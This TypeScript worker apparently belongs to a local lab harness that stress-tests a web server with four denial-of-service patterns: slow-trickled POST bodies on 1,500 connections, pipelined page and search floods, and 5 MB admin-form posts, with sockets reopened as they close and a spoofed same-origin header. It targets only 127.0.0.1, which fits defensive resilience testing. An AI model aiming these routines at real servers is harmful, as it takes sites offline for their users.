// One address that takes what it can get, on a thread of its own, until it is ended.
import { connect, type Socket } from 'node:net';
import { connect as connectOverTls } from 'node:tls';
import { parentPort, workerData } from 'node:worker_threads';

export type Kind = 'slow bodies' | 'pipelined pages' | 'pipelined searches' | 'large bodies';

/** Over TLS where there is a certificate. */
export interface Target {
  port: number;
  ca?: string;
}

interface Attack {
  connections: number;
  /** Sends on a connection that has just opened. */
  send: (socket: Socket, number: number) => void;
}

const { kind, target } = workerData as { kind: Kind; target: Target };
const localAddress = '127.0.5.2';
const reopenMs = 1_000;
const slowMs = 1_000;
const pipelined = 100;
const largeBytes = 5_000_000;
const large = Buffer.alloc(largeBytes, 'a');

const lines = (...each: string[]): string => `${each.join('\r\n')}\r\n\r\n`;
const host = 'Host: lab.example';
const askFor = (path: string): string => lines(`GET ${path} HTTP/1.1`, host);
const post = (path: string, length: number): string =>
  lines(
    `POST ${path} HTTP/1.1`,
    host,
    // As a page of the site would.
    'Sec-Fetch-Site: same-origin',
    'Content-Type: application/x-www-form-urlencoded',
    `Content-Length: ${length}`,
  );

const pipeline =
  (pathOf: (number: number) => string) =>
  (socket: Socket, number: number): void => {
    const numbers = Array.from({ length: pipelined }, (_, index) => number * pipelined + index);
    socket.write(numbers.map((each) => askFor(pathOf(each))).join(''));
  };

const attacks: Record<Kind, Attack> = {
  'slow bodies': {
    connections: 1_500,
    send: (socket) => {
      socket.write(post('/api/contact', 1_000));
      const timer = setInterval(() => socket.write('a'), slowMs);
      socket.once('close', () => clearInterval(timer));
    },
  },
  'pipelined pages': { connections: 250, send: pipeline(() => '/about') },
  'pipelined searches': {
    connections: 250,
    send: pipeline((number) => `/search?q=word-${number}`),
  },
  'large bodies': {
    connections: 250,
    send: (socket) => {
      socket.write(post('/admin/posts/new', largeBytes));
      socket.write(large);
    },
  },
};

const { connections, send } = attacks[kind];
const about = { host: '127.0.0.1', port: target.port, localAddress };

/** Opens a connection, and another one when it is closed. */
function open(number: number): void {
  const socket = target.ca
    ? connectOverTls({ ...about, ca: target.ca, servername: 'lab.example' })
    : connect(about);
  socket.once(target.ca ? 'secureConnect' : 'connect', () => send(socket, number));
  socket.on('error', () => undefined);
  socket.once('close', () => setTimeout(open, reopenMs, number + connections));
  socket.resume();
}

for (let number = 0; number < connections; number += 1) open(number);
parentPort?.postMessage('begun');
